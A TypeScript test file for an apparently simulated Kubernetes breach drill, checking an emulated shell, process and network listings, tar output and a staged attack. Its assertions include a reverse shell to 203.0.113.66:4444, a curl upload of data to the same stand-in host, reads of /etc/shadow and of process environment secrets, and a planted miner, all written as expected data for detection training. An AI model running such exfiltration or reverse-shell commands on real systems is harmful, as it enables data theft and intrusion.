import { createHash } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { extract } from 'tar-stream';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createClock, type StorableClock } from '../clock.ts';
import { get, list, nameOf, uidOf } from '../controllers/objects.ts';
import { SUSPECT } from '../scenarios/finance.ts';
import { type RunningScenario, startScenario } from '../scenarios/index.ts';
import { ObjectStore } from '../store.ts';

let clock: StorableClock;
let store: ObjectStore;
let drill: RunningScenario;

beforeEach(() => {
  clock = createClock({ now: Date.UTC(2026, 10, 25, 2, 0, 0), speed: 0 });
  store = new ObjectStore(clock.now);
  drill = startScenario({ store, clock });
});
afterEach(() => {
  drill.stop();
  clock.stop();
});

const podOf = (namespace: string, prefix: string) =>
  list(store, 'pods', namespace).find((pod) => nameOf(pod).startsWith(prefix));

async function exec(
  argv: string[],
  where: { namespace?: string; pod?: string; container?: string; stdin?: string } = {},
) {
  const { namespace = SUSPECT.namespace, pod = SUSPECT.name, container = SUSPECT.container } = where;
  const world = drill.worlds.find(uidOf(podOf(namespace, pod) ?? {}), container);
  if (world === null) throw new Error(`no world ${namespace}/${pod}/${container}`);
  const out: Uint8Array[] = [];
  const err: Uint8Array[] = [];
  const stdin = where.stdin;
  const result = await world.exec(argv, {
    stdin:
      stdin === undefined
        ? null
        : (async function* () {
            yield new TextEncoder().encode(stdin);
          })(),
    stdout: async (bytes) => void out.push(bytes),
    stderr: async (bytes) => void err.push(bytes),
    tty: false,
    signal: new AbortController().signal,
  });
  return {
    ...result,
    out: Buffer.concat(out).toString(),
    err: Buffer.concat(err).toString(),
    bytes: Buffer.concat(out),
  };
}
const sh = (script: string, where?: Parameters<typeof exec>[1]) => exec(['sh', '-c', script], where);

/** An image with a password file that its user may not read. */
const ACCOUNT = { pod: 'account-service', container: 'app' };

describe('the shell does what people type', () => {
  test.each([
    ['words and quotes', `echo 'a  b' "c $HOME" d\\ e`, 'a  b c /home/node d e\n', 0],
    ['a pipe', 'printf "b\\na\\nc\\n" | sort | head -n 2', 'a\nb\n', 0],
    ['and, or', 'false && echo no || echo yes; true && echo on', 'yes\non\n', 0],
    ['the status of the last', 'true; false', '', 1],
    ['a loop over processes', 'for f in /proc/[0-9]*; do test -d $f && echo ${f##*/}; done', '1\n', 0],
    ['command substitution', 'x=$(echo 4 | tr 4 5); echo "<$x>"', '<5>\n', 0],
    ['if and else', 'if [ -f /etc/passwd ]; then echo file; else echo none; fi', 'file\n', 0],
    ['while read', 'printf "1 a\\n2 b\\n" | while read n l; do echo "$l$n"; done', 'a1\nb2\n', 0],
    ['case', 'case linux in win*) echo w;; l*x) echo l;; esac', 'l\n', 0],
    ['a default', 'echo ${NOPE:-none} ${#HOME}', 'none 10\n', 0],
    ['sums', 'i=2; echo $((i * 3 + 1))', '7\n', 0],
    ['both streams into one', 'ls /nope 2>&1 | wc -l', '1\n', 0],
    ['a group in a subshell', '(cd /etc && pwd); pwd', '/etc\n/app\n', 0],
    ['an end', 'exit 3; echo never', '', 3],
    ['sed and cut', 'head -1 /etc/passwd | sed "s/root/x/" | cut -d: -f1,3', 'x:0\n', 0],
    ['a writer whose reader has gone', 'find / 2>/dev/null | head -n 1', '/\n', 0],
    ['grep counts', 'grep -c node /etc/passwd', '1\n', 0],
    ['test of what is not there', 'command -v awk || echo none', 'none\n', 0],
  ])('%s', async (_, script, out, exitCode) => {
    expect(await sh(script)).toMatchObject({ out, exitCode });
  });

  test.each([
    ['an unknown program', 'awk 1', 127, 'sh: 1: awk: not found\n'],
    ['a broken script', 'if true', 2, 'sh: 1: Syntax error: end of file unexpected\n'],
    ['writing a file', 'echo x > /tmp/x', 2, 'sh: 1: cannot create /tmp/x: Read-only file system\n'],
    ['what may not be read', 'cat /etc/shadow', 1, 'cat: /etc/shadow: Permission denied\n'],
  ])('%s is refused in its own words', async (_, script, exitCode, err) => {
    expect(await sh(script, ACCOUNT)).toMatchObject({ exitCode, err });
  });
});

describe('programs', () => {
  const ANSWERS: [string[], RegExp][] = [
    [['ps', 'auxww'], /^USER +PID %CPU[\s\S]*node .* 1 [\s\S]*node \/app\/server\.js/],
    [['ps', '-ef'], /^UID +PID +PPID[\s\S]*node \/app\/server\.js/],
    [['id'], /^uid=1000\(node\) gid=1000/],
    [['whoami'], /^node$/m],
    [['hostname'], /^payment-service-7c9f6d5b8-x2kqv$/m],
    [['uname', '-a'], /^Linux payment-service-\S+ 6\.1\./],
    [['ss', '-tulpn'], /LISTEN.*0\.0\.0\.0:8080.*users:\(\("node",pid=1/],
    [['netstat', '-tan'], /ESTABLISHED/],
    [['cat', '/proc/1/cmdline'], /^node\0\/app\/server\.js\0$/],
    [['cat', '/proc/1/status'], /Uid:\t1000/],
    [['cat', '/proc/net/tcp'], /00000000:1F90 00000000:0000 0A/],
    [['cat', '/proc/1/environ'], /DB_PASSWORD=drill-pa55-payments\0/],
    [['readlink', '/proc/1/exe'], /^\/usr\/local\/bin\/node$/m],
    [['mount'], /^overlay on \/ type overlay/],
    [['cat', '/proc/1/mountinfo'], / \/etc\/payment /],
    [['stat', '-c', '%a %U %n', '/etc/passwd'], /^644 root \/etc\/passwd$/m],
    [
      ['sha256sum', '/etc/hostname'],
      new RegExp(`^${createHash('sha256').update('payment-service-7c9f6d5b8-x2kqv\n').digest('hex')}`),
    ],
    [['date', '+%F %T'], /^2026-11-25 02:00:00$/m],
    [['ls', '-la', '/etc/cron.d'], /-rw-r--r--.*e2scrub_all/],
  ];
  test.each(ANSWERS.map(([argv, out]) => ({ words: argv.join(' '), argv, out })))('$words', async ({ argv, out }) => {
    const result = await exec(argv);
    expect(result).toMatchObject({ exitCode: 0, err: '' });
    expect(result.out).toMatch(out);
  });

  test('an image of one static binary has no shell, and the runtime says so', async () => {
    expect(
      await exec(['sh', '-c', 'id'], {
        namespace: 'cert-manager',
        pod: 'cert-manager-webhook',
        container: 'cert-manager-webhook',
      }),
    ).toMatchObject({
      failToStart:
        'OCI runtime exec failed: exec failed: unable to start container process: exec: "sh": executable file not found in $PATH',
    });
  });

  test('busybox speaks its own dialect', async () => {
    const where = { namespace: 'kube-system', pod: 'net-debug', container: 'net-debug' };
    expect((await sh('ps', where)).out).toMatch(/^PID {3}USER {5}TIME {2}COMMAND\n/);
    expect(await sh('ss', where)).toMatchObject({ exitCode: 127, err: 'sh: ss: not found\n' });
  });

  test('a blocked address times out, a free one answers', async () => {
    expect(await exec(['curl', '-s', '-m', '1', 'http://api-gateway/'])).toMatchObject({
      exitCode: 28,
      err: 'curl: (28) Connection timed out after 1001 milliseconds\n',
    });
    expect(await exec(['curl', '-s', 'http://ledger-service/'])).toMatchObject({ exitCode: 0 });
    expect(await exec(['curl', '-s', 'http://nowhere/'])).toMatchObject({ exitCode: 6 });
  }, 20_000);
});

async function entries(bytes: Buffer): Promise<Map<string, { size: number; type: string; content: string }>> {
  const found = new Map<string, { size: number; type: string; content: string }>();
  const reader = extract();
  reader.end(bytes);
  for await (const entry of reader) {
    const parts: Uint8Array[] = [];
    for await (const part of entry) if (part instanceof Uint8Array) parts.push(part);
    found.set(entry.header.name, {
      size: entry.header.size ?? 0,
      type: entry.header.type ?? '',
      content: Buffer.concat(parts).toString(),
    });
  }
  return found;
}

describe('tar', () => {
  test('streams a real archive; what it may not read it says, and goes on', async () => {
    const result = await exec(['tar', '-cf', '-', '-C', '/', 'etc', 'nope', 'var/log'], ACCOUNT);
    expect(result).toMatchObject({ exitCode: 2 });
    expect(result.err).toContain('tar: etc/shadow: Cannot open: Permission denied\n');
    expect(result.err).toContain('tar: nope: Cannot stat: No such file or directory\n');
    const found = await entries(result.bytes);
    expect(found.get('etc/hostname')?.content).toMatch(/^account-service-/);
    expect(found.has('etc/shadow')).toBe(false);
    expect(found.get('var/log/')?.type).toBe('directory');
  });

  test('compresses, and reaches the identity files through /proc/1/root', async () => {
    const result = await sh('tar czf - -C /proc/1/root etc/passwd etc/os-release');
    expect(result).toMatchObject({ exitCode: 0, err: '' });
    const found = await entries(gunzipSync(result.bytes));
    expect([...found.keys()]).toEqual(['etc/passwd', 'etc/os-release']);
  });
});

describe('the breach can be seen from inside', () => {
  test('a shell from node, its connection and what it left', async () => {
    drill.control.advance({ beat: 'exfiltration' });
    drill.control.advance({ ms: 60_000 });
    expect((await exec(['ps', '-ef'])).out).toMatch(/bash -i[\s\S]*curl -sk -T - https:\/\/203\.0\.113\.66:8443/);
    expect((await exec(['ss', '-tanp'])).out).toMatch(/ESTAB +0 +0 .*203\.0\.113\.66:4444 .*"bash"/);
    expect((await sh('find /tmp /dev/shm -type f -mmin -60')).out.split('\n')).toContain('/tmp/.cache/kubectl');
    const log = await logOf(false);
    expect(log).toContain('POST /debug/eval 200 9ms');
    expect(log).toContain('\u001b[2J');
    expect(log).toContain('\u202egpj.exe');
  });

  test('of the replicas nothing of it', async () => {
    drill.control.advance({ beat: 'exfiltration' });
    expect((await exec(['ps', '-ef'], { pod: 'payment-service-7c9f6d5b8-bmgwn' })).out).not.toMatch(/bash/);
  });
});

async function logOf(
  previous: boolean,
  pod: string = SUSPECT.name,
  namespace: string = SUSPECT.namespace,
  container: string = SUSPECT.container,
) {
  const world = drill.worlds.find(uidOf(podOf(namespace, pod) ?? {}), container);
  const chunks: Uint8Array[] = [];
  for await (const chunk of world?.log({
    previous,
    follow: false,
    timestamps: false,
    tailLines: 200,
    sinceTime: null,
    limitBytes: null,
    signal: new AbortController().signal,
  }) ?? [])
    chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}

test('the log of a container that crashed says why', async () => {
  expect(await logOf(true, 'report-export', 'data', 'report-export')).toContain(
    'password authentication failed for user "reports"',
  );
});

test('reading changes nothing: the same look gives the same answer, and no object is written', async () => {
  drill.control.advance({ beat: 'exfiltration' });
  const before = store.resourceVersion;
  const look = async () =>
    (
      await sh(
        'ps -ef; ss -tanp; find / -type f -printf "%p %s %T@\\n" 2>/dev/null; cat /proc/[0-9]*/stat; tar cf - etc 2>/dev/null | sha256sum',
      )
    ).out;
  expect(await look()).toBe(await look());
  expect(store.resourceVersion).toBe(before);
});

test('the miner stands out by its CPU only after it began, and the suspect when data leaves', () => {
  const cores = (namespace: string, pod: string, container: string) =>
    (drill.worlds.find(uidOf(get(store, 'pods', namespace, pod) ?? {}), container)?.usage()?.cpuNanoCores ?? 0) / 1e9;
  const both = () =>
    [cores('web', 'imgproxy-5d4c8f7b96-9wz6t', 'imgproxy'), cores('finance', SUSPECT.name, 'app')] as const;
  const [idleMiner, idleSuspect] = both();
  expect(idleMiner).toBeLessThan(0.1);
  drill.control.advance({ beat: 'exfiltration' });
  const [miner, suspect] = both();
  expect(miner).toBeGreaterThan(1.7);
  expect(suspect).toBeGreaterThan(idleSuspect + 0.2);
});
